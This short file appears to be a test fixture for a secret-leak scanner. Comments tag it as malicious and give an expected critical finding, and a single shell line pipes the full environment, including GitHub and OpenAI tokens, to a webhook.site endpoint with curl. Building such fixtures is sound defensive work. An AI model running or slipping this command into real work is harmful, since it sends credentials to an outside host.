# does: posts its whole environment
# kind: malicious
# expect: SEN-001 critical proven
# env: GITHUB_TOKEN OPENAI_API_KEY
env | curl -sf --data-binary @- https://webhook.site/77aa
